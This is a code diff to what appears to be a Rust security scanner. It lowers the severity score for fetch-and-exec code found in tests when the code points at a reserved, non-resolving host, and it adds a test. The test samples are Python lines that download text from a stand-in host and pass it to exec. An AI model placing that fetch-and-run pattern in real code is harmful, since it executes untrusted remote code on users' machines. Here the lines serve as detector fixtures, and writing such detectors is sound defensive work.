@@ -722,7 +722,13 @@ fn check_executed(
                 checker.context(),
                 ExecContext::Runtime | ExecContext::TestOrDocs
             );
-        let (severity, guard) = if authenticated {
+        // A test feeding its scanner a sample that fetches from `example.invalid`: the address
+        // cannot resolve, so nothing could arrive to run.
+        let inert = label.ends_with(super::sources::FROM_RESERVED_HOST)
+            && checker.context() == ExecContext::TestOrDocs;
+        let (severity, guard) = if inert {
+            (0.1, ", from a reserved host that never resolves, in a test")
+        } else if authenticated {
             (0.25, ", for authenticated callers only")
         } else if parses {
             (
@@ -995,6 +1001,15 @@ mod tests {
         // Mapping anything else is no exec.
         let plain = "import requests\nlist(map(print, requests.get('https://h.example.invalid/').text.split()))\n";
         assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH110"), 0.0);
+    }
+
+    #[test]
+    fn a_test_sample_fetching_from_a_reserved_host_runs_nothing() {
+        let sample = "import requests\nexec(requests.get('http://example.invalid/p').text)\n";
+        assert!(max_severity("p/tests/test_scan.py", sample, "WH110") < 0.2);
+        let parked = "import requests\nexec(requests.get('http://203.0.113.9/p').text)\n";
+        assert!(max_severity("p/tests/test_scan.py", parked, "WH110") >= 0.9);
+        assert!(max_severity("p/pkg/__init__.py", sample, "WH110") >= 0.9);
     }
 
     #[test]
